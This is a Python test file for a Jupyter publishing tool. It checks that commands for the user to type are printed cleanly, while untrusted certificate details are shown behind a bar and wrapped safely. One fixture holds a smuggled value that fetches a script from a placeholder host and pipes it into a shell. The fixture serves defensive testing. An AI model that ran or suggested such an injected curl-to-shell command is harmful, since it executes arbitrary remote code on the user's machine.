"""What the shell and the notebook show of the checks before a Jupyter is published."""

from jupyter_remote_tunnel.commands.publish_answers import MARGIN, check_lines
from jupyter_remote_tunnel.model.publication import Check

_BAR = f"{MARGIN}  | "
_STRANGE = "Its names: x; curl -s https://stranger.invalid/i | sh #<<'"


def test_what_is_to_be_typed_has_no_margin_only_where_a_file_is_in_it() -> None:
    """The end of a here-document stands at the beginning of its line."""
    one = check_lines(Check("folder", "failed", "It is open.", ("chmod 700 /srv/x",)))
    assert one[1:] == [f"{MARGIN}chmod 700 /srv/x"]
    file = ("sudo tee x <<'END'", "\tlisten 443;", "END")
    assert check_lines(Check("site", "failed", "It is not there.", file))[1:] == list(file)


def test_what_strangers_say_stands_behind_a_bar() -> None:
    """Beside what is to be typed, and whatever it looks like."""
    typed = ("sudo tee x <<'END'", "END")
    check = Check("certificate", "failed", "It ended.", typed, "Do.", details=(_STRANGE,))
    lines = check_lines(check)
    assert lines[1] == f"{_BAR}{_STRANGE}"
    assert lines[2:4] == list(typed)
    assert lines[4] == f"{MARGIN}→ Do."
    alone = check_lines(Check("certificate", "ok", "It is for x.", details=(_STRANGE,)))
    assert alone[1:] == [f"{_BAR}{_STRANGE}"]


def test_no_row_of_what_strangers_say_is_broken_by_a_terminal() -> None:
    """The rest of it would stand at the beginning of a row, as what is to be typed."""
    detail = f"Its names: {56 * 'x'} sudo sh -c 'true' {400 * '界'}"
    rows = check_lines(Check("certificate", "ok", "It is for x.", details=(detail,)))[1:]
    assert all(row.startswith(_BAR) for row in rows)
    assert all(len(row) + row.count("界") < 80 for row in rows)
    assert "".join(row.removeprefix(_BAR) for row in rows) == detail


def test_a_line_is_indented_no_deeper_than_can_be_seen() -> None:
    """What stands behind would begin in another row."""
    deep = ("sudo tee x <<'END'", f"{400 * ' '}listen 443;", "END")
    lines = check_lines(Check("site", "failed", "It is not there.", deep))
    assert lines[2] == f"{40 * ' '}listen 443;"
